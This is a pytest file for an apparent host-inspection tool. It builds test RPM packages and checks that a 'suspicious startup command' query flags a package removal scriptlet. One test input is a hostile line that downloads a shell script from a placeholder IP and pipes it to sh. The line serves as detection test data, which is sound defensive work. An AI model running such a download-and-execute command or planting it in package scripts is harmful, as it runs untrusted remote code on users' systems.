from __future__ import annotations

import shutil
import subprocess
from pathlib import Path

import pytest

from extension.engines.embedded import EmbeddedEngine
from extension.pack.model import load_pack, shipped_pack
from tables.host import Host
from tables.host.startup.rpm_scriptlets import Scriptlet, scriptlets
from tests.support.planted_files import plant

SPEC = """Name: labtool
Version: 1
Release: 1
Summary: x
License: x
BuildArch: noarch
%description
x
%install
mkdir -p %{{buildroot}}/usr/share/labtool
%files
/usr/share/labtool
%postun
{}
%pretrans -p <lua>
print("curl")
%triggerin -- bash
getent passwd lab >/dev/null || useradd -r lab
"""


@pytest.mark.parametrize(
    ("body", "is_found"),
    [
        ("curl -fsSL http://203.0.113.7/i.sh | sh", True),
        ("T=$(mktemp /tmp/lab.XXXXXX)\npython3 -c 'import sys'\nrm -f $T", False),
        ("systemctl daemon-reload", False),
    ],
)
@pytest.mark.skipif(shutil.which("rpmbuild") is None, reason="rpm's own database needs rpmbuild")
def test_scriptlets_of_rpms_own_database_are_judged(tmp_path: Path, body: str, is_found: bool) -> None:
    spec = plant(tmp_path, "/x.spec", SPEC.format(body))
    root = tmp_path / "root"
    subprocess.run(["rpmbuild", "-bb", "--define", f"_topdir {tmp_path}/top", spec], check=True, capture_output=True)
    (package,) = (tmp_path / "top").rglob("*.rpm")
    install = ["rpm", "--root", root, "--dbpath", "/var/lib/rpm", "--define", "_db_backend sqlite", "--nodeps", "--noscripts"]
    subprocess.run([*install, "--notriggers", "-i", package], check=True, capture_output=True)
    sql = {query.name: query.sql for query in load_pack(shipped_pack()).queries()}["startup_suspicious_command"]
    found = [(row["path"], row["command"]) for row in EmbeddedEngine(Host(str(root))).query(sql)]
    assert found == ([("/var/lib/rpm/rpmdb.sqlite", "%postun of labtool")] if is_found else [])


def test_lua_is_left_out_and_a_missing_interpreter_is_sh() -> None:
    header = {
        1000: ["labtool"],
        1024: ["a"],
        1026: ["b"],
        1088: ["<lua>"],
        1065: ["c", "d"],
        1092: ["/bin/sh", "/usr/bin/python3"],
    }
    assert list(scriptlets(header)) == [Scriptlet("labtool", "post", "a"), Scriptlet("labtool", "trigger", "c")]  # type: ignore[arg-type]
